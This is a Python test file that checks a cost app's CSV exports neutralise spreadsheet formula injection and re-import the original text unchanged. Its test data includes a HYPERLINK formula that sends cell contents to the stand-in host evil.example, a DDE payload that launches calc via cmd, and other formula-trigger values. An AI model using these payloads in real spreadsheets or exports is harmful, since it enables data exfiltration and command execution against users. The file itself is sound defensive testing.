"""Exports never hand a spreadsheet a formula, and what they neutralise imports back unchanged.

Text in a bill (names, descriptions, tags) is chosen by whoever names a resource or uploads a
file; a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR would run as a formula.
"""

from __future__ import annotations

import csv
import io
import re

import orjson

from common.csvsafe import FORMULA_TRIGGERS, restore
from costs.focus import COLUMNS, Kind

from .conftest import Client, focus_rows, imported

WINDOW = {"start": "2024-01-01", "end": "2024-01-31"}
AMOUNTS = {c.focus for c in COLUMNS if c.kind is Kind.DECIMAL}
NUMBER = re.compile(r"-?\d+(\.\d+)?")
#: Text a hostile bill carries, in the columns a spreadsheet user reads.
HOSTILE = {
    "ResourceName": '=HYPERLINK("http://evil.example/?d="&A1,"Details")',
    "ServiceName": "@SUM(1+1)*cmd|' /C calc'!A0",
    "ChargeDescription": "+1",
    "SubAccountName": "-x",
    "BillingAccountName": "\tfirst a tab",
    "SkuId": "\r=after a carriage return",
    "Tags": orjson.dumps({"team": "=HYPERLINK(1)", "owner": "@SUM", "cc": "+1"}).decode(),
}

#: Cells another tool already neutralised: imported as the text they stand for (one quote less).
NEUTRALISED = {"RegionName": "'=quoted once", "SkuPriceId": "''@quoted twice"}


def hostile_bill() -> list[dict[str, str]]:
    rows = focus_rows("aws_focus_1_0.csv")
    rows[0].update(HOSTILE, **NEUTRALISED)
    rows[1].update(ServiceName="-x", ResourceName="@SUM(A1:A9)")
    return rows


def as_csv(rows: list[dict[str, str]]) -> bytes:
    """The rows as a provider would write them: nothing neutralised, CRLF (so a CR is quoted)."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_no_formula(rows: list[dict[str, str]], numeric: set[str]) -> None:
    """No cell starts a formula, except numbers in the numeric columns."""
    for row in rows:
        for column, value in row.items():
            if column in numeric and NUMBER.fullmatch(value):
                continue
            assert not value.startswith(tuple(FORMULA_TRIGGERS)), (column, value)


async def test_focus_export_neutralises_formulas_and_reimports_the_original_text(
    client: Client,
) -> None:
    bill = hostile_bill()
    first = await imported(client, as_csv(bill))
    assert first["rows_rejected"] == 0

    resp = await client.get("/api/costs/export/focus.csv", params=WINDOW)
    assert resp.status == 200
    exported = await resp.text()
    rows = cells(exported)
    assert_no_formula(rows, AMOUNTS)
    hostile = next(r for r in rows if r["ResourceName"].endswith('"Details")'))
    for column, original in HOSTILE.items():
        if column != "Tags":  # a JSON object starts with "{": nothing to neutralise
            assert hostile[column] == "'" + original, column
        assert restore(hostile[column]) == original
    for column, written in NEUTRALISED.items():
        assert hostile[column] == written, column  # stored one quote less, exported as read
    # Negative amounts stay numbers (a credit is not a formula).
    assert any(r["BilledCost"].startswith("-") for r in rows)

    again = await imported(client, exported.encode())
    assert again["rows_accepted"] == len(bill)
    assert again["rows_replaced"] == len(bill)
    assert await (await client.get("/api/costs/export/focus.csv", params=WINDOW)).text() == exported
    services = await (
        await client.get("/api/costs/daily", params={**WINDOW, "group_by": "service"})
    ).json()
    assert {HOSTILE["ServiceName"], "-x"} <= {i["group"] for i in services["data"]}
    teams = await (
        await client.get("/api/costs/daily", params={**WINDOW, "group_by": "tag:team"})
    ).json()
    assert "=HYPERLINK(1)" in {i["group"] for i in teams["data"]}


async def test_daily_csv_neutralises_group_names_but_not_amounts(client: Client) -> None:
    await imported(client, as_csv(hostile_bill()))
    for group_by in ("service", "tag:owner", "charge_category"):
        params = {**WINDOW, "group_by": group_by}
        resp = await client.get("/api/costs/export/daily.csv", params=params)
        assert resp.status == 200
        rows = cells(await resp.text())
        assert_no_formula(rows, {"billed_cost"})
        report = (await (await client.get("/api/costs/daily", params=params)).json())["data"]
        assert [restore(r[group_by]) for r in rows] == [i["group"] or "" for i in report]
        assert [r["billed_cost"] for r in rows] == [i["cost"] for i in report]
    credits = cells(
        await (
            await client.get(
                "/api/costs/export/daily.csv", params={**WINDOW, "group_by": "charge_category"}
            )
        ).text()
    )
    assert [r["billed_cost"] for r in credits if r["charge_category"] == "Credit"] == [
        "-12.34567890123456"
    ]
